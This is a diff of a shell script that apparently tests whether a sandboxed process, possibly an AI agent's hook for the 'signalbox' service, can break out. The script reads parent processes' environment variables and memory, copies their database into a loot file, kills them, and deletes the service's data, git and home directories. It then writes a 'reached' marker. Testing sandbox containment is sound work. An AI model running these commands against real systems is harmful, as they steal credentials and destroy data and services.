@@ -95,11 +95,11 @@ data=$(dirname "$(dirname "$(dirname "$SIGNALBOX_PROMPT_FILE")")")
 shim=$PPID
 service=$(sed 's/.*) //' "/proc/$shim/stat" | cut -d' ' -f2)
 for pid in $shim $service; do
-	{ tr '\0' '\n' <"/proc/$pid/environ"; cat "/proc/$pid/mem"; ls -l "/proc/$pid/fd/"; cat "/proc/$pid/root$data/signalbox.db"; } >>"$loot" 2>/dev/null
+	{ tr '\0' '\n' <"/proc/$pid/environ"; cat "/proc/$pid/mem"; readlink "/proc/$pid/fd/"*; cat "/proc/$pid/root$data/signalbox.db"; } >>"$loot" 2>/dev/null
 	kill -9 "$pid" && echo "killed $pid" >>"$loot"
 done
 for name in signalbox.db running logs git/mirrors git/repos git/work homes; do
-	{ cat "$data/$name"; ls -A "$data/$name"; } >>"$loot" 2>/dev/null
+	{ cat "$data/$name"; ls -A "$data/$name/"; } >>"$loot" 2>/dev/null
 	rm -rf "$data/$name" && echo "removed $name" >>"$loot"
 done
 [ "$(stat -c %d:%i "$data/signalbox.db")" ] && echo reached >"$WORLD_DIR/reached" # it is the right place
